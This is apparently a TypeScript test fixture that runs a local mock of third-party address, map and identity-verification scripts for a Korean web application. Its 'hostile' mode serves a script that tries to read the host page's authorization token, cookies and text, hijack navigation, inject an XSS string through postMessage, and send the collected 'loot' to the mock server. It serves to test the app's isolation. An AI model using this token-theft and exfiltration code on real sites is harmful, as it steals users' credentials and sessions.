import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** The chosen address in every response of the honest service. */
const CHOICE = {
  zonecode: '04595',
  roadAddress: '서울특별시 중구 한빛로 27',
  jibunAddress: '서울특별시 중구 한빛동 12',
  userSelectedType: 'R',
  buildingName: '한빛외식회관',
};

/** Like the real one: the script frames its search, which only responds to the origin that the script has named. */
const honest = `
  const base = new URL(document.currentScript.src).origin;
  window.kakao = {
    Postcode: class {
      constructor(options) { this.options = options; }
      embed(element) {
        const frame = document.createElement('iframe');
        frame.src = base + '/search?origin=' + encodeURIComponent(location.protocol + '//' + location.host);
        frame.style.cssText = 'border:0;width:100%;height:100%';
        window.addEventListener('message', (event) => {
          if (event.source === frame.contentWindow) this.options.oncomplete(event.data);
        });
        element.append(frame);
      }
    },
  };`;

const search = `<!doctype html><html lang="ko"><meta charset="utf-8"><title>검색</title>
  <button>${CHOICE.roadAddress}</button>
  <script>
    const origin = new URLSearchParams(location.search).get('origin');
    document.querySelector('button').onclick = () => parent.postMessage(${JSON.stringify(CHOICE)}, origin);
  </script></html>`;

/** Tries to read everything, reports the results, and does not start. */
const hostile = `
  const base = new URL(document.currentScript.src).origin;
  const loot = {};
  const attempt = (name, act) => { try { loot[name] = String(act()); } catch { loot[name] = 'refused'; } };
  attempt('token of the portal', () => parent.localStorage.getItem('authorization'));
  attempt('token at this origin', () => localStorage.getItem('authorization'));
  attempt('cookies', () => document.cookie);
  attempt('page', () => parent.document.body.textContent);
  attempt('window', () => window.open(base + '/stolen'));
  attempt('alert', () => alert('!'));
  attempt('top', () => { top.location.href = base + '/stolen'; });
  attempt('parent', () => parent.location.replace(base + '/stolen'));
  for (const message of [
    null, 7, '04595', { type: 'postcode:chosen' }, { type: 'postcode:chosen', postCode: '1', address: 'x' },
    { type: 'postcode:chosen', postCode: '04595', address: '<img src=x onerror=alert(1)>'.repeat(50) },
    { type: 'postcode:ready', extra: new Array(1000).fill('x') },
  ]) parent.postMessage(message, '*');
  const send = document.createElement('script');
  send.src = base + '/loot?' + encodeURIComponent(JSON.stringify(loot));
  document.head.append(send);`;

/** Like the real one: started by the page, it queries its own server for the position of an address. */
const map = `
  const base = new URL(document.currentScript.src).origin;
  const nothing = class {};
  window.kakao = {
    maps: {
      load: (start) => setTimeout(start),
      LatLng: class { constructor(latitude, longitude) { this.text = latitude + ', ' + longitude; } },
      Map: class {
        constructor(element, { center }) {
          element.innerHTML = '<div role="img" aria-label="' + center.text + '">' + innerWidth + ' × ' + innerHeight + '</div>';
        }
        addControl() {}
        relayout() {}
        setCenter() {}
      },
      Marker: nothing,
      ZoomControl: nothing,
      ControlPosition: { RIGHT: 3 },
      services: {
        Geocoder: class {
          addressSearch(address, then) {
            fetch(base + '/address?query=' + encodeURIComponent(address))
              .then((answer) => answer.json())
              .then((found) => then(found, found.length > 0 ? 'OK' : 'ZERO_RESULT'));
          }
        },
      },
    },
  };`;

/** Like the real one: it begins the check on its own server, and redirects the browser back. */
const identity = `
  const base = new URL(document.currentScript.src).origin;
  window.PortOne = {
    async requestIdentityVerification(request) {
      await fetch(base + '/identify', { method: 'POST', body: JSON.stringify(request) });
      location.assign(request.redirectUrl + '?identityVerificationId=' + request.identityVerificationId);
      await new Promise(() => undefined);
    },
  };`;

/** Request of the services page to the identity service. */
export interface IdentityRequest {
  storeId: string;
  channelKey: string;
  identityVerificationId: string;
  customData: string;
}

/** Starts the third-party services on a separate socket. */
export async function startServices() {
  const service = {
    behaviour: 'honest' as 'honest' | 'hostile' | 'down',
    loot: [] as Record<string, string>[],
    /** Requests for the map's script. */
    mapRequests: [] as { key: string | null; referer: string | undefined }[],
    /** Requested addresses. */
    addresses: [] as (string | null)[],
    /** Carries out a check. */
    identify: (_request: IdentityRequest): void => undefined,
  };
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://service');
    if (service.behaviour === 'down') return void response.writeHead(503).end();
    if (url.pathname === '/search') return void response.setHeader('Content-Type', 'text/html').end(search);
    if (url.pathname === '/loot')
      service.loot.push(JSON.parse(decodeURIComponent(url.search.slice(1))) as Record<string, string>);
    if (url.pathname === '/identify') {
      let body = '';
      request.on('data', (part: Buffer) => (body += part.toString()));
      return void request.on('end', () => {
        service.identify(JSON.parse(body) as IdentityRequest);
        response.setHeader('Access-Control-Allow-Origin', '*').end();
      });
    }
    if (url.pathname === '/address') {
      const query = url.searchParams.get('query');
      service.addresses.push(query);
      const found = query?.startsWith('서울') ? [{ x: '127.01', y: '37.55' }] : [];
      response.setHeader('Access-Control-Allow-Origin', '*');
      return void response.setHeader('Content-Type', 'application/json').end(JSON.stringify(found));
    }
    response.setHeader('Content-Type', 'text/javascript');
    if (url.pathname === '/map.js') {
      service.mapRequests.push({ key: url.searchParams.get('appkey'), referer: request.headers.referer });
      return void response.end(map);
    }
    if (url.pathname === '/identity.js') return void response.end(identity);
    response.end(url.pathname === '/postcode.js' ? { honest, hostile }[service.behaviour] : '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return Object.assign(service, {
    postcodeScript: `http://127.0.0.1:${port}/postcode.js`,
    identityScript: `http://127.0.0.1:${port}/identity.js`,
    mapScript: `http://127.0.0.1:${port}/map.js`,
    close: () => new Promise((resolve) => server.close(resolve)),
  });
}
